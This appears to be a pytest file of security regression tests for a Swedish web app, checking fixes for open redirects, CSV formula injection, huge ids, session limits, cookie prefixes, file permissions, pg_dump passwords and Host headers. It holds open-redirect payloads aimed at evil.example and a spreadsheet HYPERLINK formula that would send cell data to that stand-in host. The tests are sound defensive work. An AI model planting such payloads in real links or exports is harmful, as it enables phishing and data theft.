"""The low findings of the security review, each closed: a `next` to another site, formulas in
the statistics CSV, huge ids and impossible dates, participant logins without an absolute limit,
the cookie's prefix, readable database files and backups, pg_dump's password in its argument
list, and card addresses built from any Host header."""

import csv
import io
import os
import stat
import subprocess
from datetime import timedelta

import pytest
from sqlmodel import select

from app import backup as backups
from app import create_app
from app.models import LoginSession, Unit, utcnow
from tests.stats.test_page import QUARTER, town  # noqa: F401

BIG = "9" * 30


@pytest.mark.parametrize(
    "target", ["/\t/evil.example", "/\n/evil.example", "//evil.example", "https://evil.example",
               "/\\evil.example", "\x00//evil.example"],
)  # fmt: skip
def test_next_never_leaves_the_app_and_never_crashes(client, target):
    response = client.post("/sprak", data={"lang": "sv", "next": target})
    assert response.status_code == 303
    location = response.headers["Location"]
    assert location.startswith("/") and not location.startswith("//"), location
    assert "evil" not in location.split("?")[0].strip("/").split("/")[0]


def test_next_within_the_app_is_kept(client):
    response = client.post("/sprak", data={"lang": "sv", "next": "/andra-vagar?x=1"})
    assert response.headers["Location"] == "/andra-vagar?x=1"


def test_statistics_csv_writes_names_as_plain_text(client, db, town, make_staff, login_as):  # noqa: F811
    unit = db.exec(select(Unit).where(Unit.name == "Kaféet")).one()
    unit.name = '=HYPERLINK("http://evil.example/?"&A1,"Kaféet")'
    db.add(unit)
    db.commit()
    login_as(client, make_staff("manager"))
    body = client.get(f"/personal/statistik.csv?kvartal={QUARTER.key}").get_data(as_text=True)
    cells = [
        c for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";") for c in row
    ]
    assert "'" + unit.name in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize("role", ["admin", "auditor", "case_officer", "supervisor"])
def test_huge_ids_and_impossible_dates_are_404_or_422_never_500(
    client, world, make_staff, login_as, role
):
    login_as(client, world["staff"][role])
    anna = world["ids"]["anna"]
    for url in [
        f"/personal/deltagare/{BIG}",
        f"/personal/moten/{BIG}",
        f"/granskning/deltagare?id={BIG}",
        f"/granskning/personal?id={BIG}",
        f"/granskning/deltagare?id={anna}&fran=0001-01-01&till=0001-01-01",
        f"/granskning/deltagare/csv?id={anna}&fran=9999-12-31&till=9999-12-31",
        f"/personal/deltagare/{anna}?sedan=0001-01-01",
        f"/admin/personal/andra?id={BIG}",
        f"/admin/kort?enhet={BIG}",
    ]:
        assert client.get(url).status_code < 500, url
    assert client.get(f"/personal/deltagare/{BIG}").status_code == 404
    posted = {"participant": BIG, "cards_seen": BIG}
    assert (
        client.post(f"/personal/enhet/{world['ids']['unit']}/kort", data=posted).status_code < 500
    )


def test_a_participant_login_ends_after_thirty_days_whatever_happens(
    app, client, db, make_participant, login_participant
):
    assert app.config["PARTICIPANT_MAX_DAYS"] == 30
    anna = make_participant("Anna")
    login_participant(client, anna)
    login = db.exec(select(LoginSession).where(LoginSession.participant_id == anna.id)).one()
    login.created_at = utcnow() - timedelta(days=31)
    db.add(login)
    db.commit()
    assert client.get("/mina-mal").status_code == 302
    db.expire_all()
    assert db.get(LoginSession, login.id).ended_at is not None


@pytest.fixture
def production(database_url, tmp_path):
    def make(**settings):
        return create_app(
            {"SECRET_KEY": "production-secret", "DATABASE_URL": database_url, **settings}
        )

    return make


def test_the_session_cookie_is_host_only_over_https(production, make_participant, make_card):
    app = production()
    assert app.config["SESSION_COOKIE_NAME"] == "__Host-mina_steg"
    client = app.test_client()
    client.get("/sprak", base_url="https://localhost")
    cookie = client.get_cookie("__Host-mina_steg", domain="localhost")
    assert cookie is not None and cookie.secure and cookie.path == "/"
    assert cookie.domain in ("localhost", "localhost.local")


def test_other_hosts_are_refused_and_card_addresses_use_the_public_url(production):
    app = production(PUBLIC_URL="https://minasteg.example.se")
    assert app.config["TRUSTED_HOSTS"] == ["minasteg.example.se"]
    client = app.test_client()
    assert client.get("/healthz", base_url="https://minasteg.example.se").status_code == 200
    assert client.get("/healthz", base_url="https://evil.example").status_code == 400
    from app.card_login import cards

    with app.test_request_context("/", base_url="https://minasteg.example.se"):
        assert cards.card_url("abc").startswith("https://minasteg.example.se/k/")


def test_a_new_sqlite_database_and_its_backups_are_private(tmp_path):
    url = f"sqlite:///{tmp_path / 'new' / 'mina-steg.sqlite'}"
    app = create_app({"LOCAL_RUN": True, "SECRET_KEY": "x", "DATABASE_URL": url})
    from app import migrate

    migrate.upgrade(url)
    with app.app_context():
        pass
    database = tmp_path / "new" / "mina-steg.sqlite"
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
    copy = tmp_path / "backup.sqlite"
    copy.write_text("an old file, readable by all")
    copy.chmod(0o644)
    backups.backup(url, copy)
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    app.extensions["db_engine"].dispose()


def test_pg_dump_gets_the_password_in_its_environment_not_its_arguments(monkeypatch, tmp_path):
    seen = []

    def run(command, **kwargs):
        seen.append((command, kwargs.get("env") or {}))
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.setattr(backups.subprocess, "run", run)
    monkeypatch.setattr(backups, "_tool", lambda name: name)
    backups.backup("postgresql://minasteg:s3cret-word@db.example/minasteg", tmp_path / "b.dump")
    ((command, environment),) = seen
    assert not any("s3cret-word" in part for part in command)
    assert environment["PGPASSWORD"] == "s3cret-word"
    assert os.environ.get("PGPASSWORD") != "s3cret-word"
